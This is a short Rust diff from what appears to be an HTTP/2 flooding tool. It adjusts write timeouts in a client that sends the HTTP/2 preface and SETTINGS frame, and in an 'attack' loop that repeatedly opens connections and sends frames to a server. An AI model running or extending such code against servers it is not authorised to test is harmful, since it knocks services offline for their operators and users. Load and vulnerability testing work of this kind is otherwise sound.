@@ -123,7 +123,7 @@ struct Client {
 impl Client {
     fn connect(address: &str) -> std::io::Result<Self> {
         let mut socket = TcpStream::connect(address)?;
-        socket.set_write_timeout(Some(STALLED))?;
+        socket.set_write_timeout(Some(LIMIT))?;
         socket.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
         socket.write_all(&frame(SETTINGS, 0, 0, &[]))?;
         Ok(Self { socket })
@@ -187,6 +187,8 @@ fn attack(address: &str, frames: Frames, reads: bool, stop: &AtomicBool, progres
         let Ok(mut client) = Client::connect(address) else {
             continue;
         };
+        let write_timeout = client.socket.set_write_timeout(Some(STALLED));
+        write_timeout.expect("own socket");
         progress.connections.fetch_add(1, Ordering::Relaxed);
         let mut round = 0;
         while !stop.load(Ordering::Relaxed) && client.send(&frames(round)) {
